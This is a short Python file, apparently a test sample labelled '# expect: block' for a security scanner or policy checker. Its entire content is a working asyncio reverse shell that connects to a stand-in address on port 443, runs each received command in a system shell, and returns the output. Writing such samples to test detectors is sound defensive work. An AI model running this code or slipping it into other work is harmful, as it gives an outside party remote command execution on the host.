# expect: block
import asyncio


async def main():
    reader, writer = await asyncio.open_connection("203.0.113.5", 443)
    while True:
        cmd = await reader.readline()
        if not cmd:
            break
        proc = await asyncio.create_subprocess_shell(
            cmd.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()


asyncio.run(main())
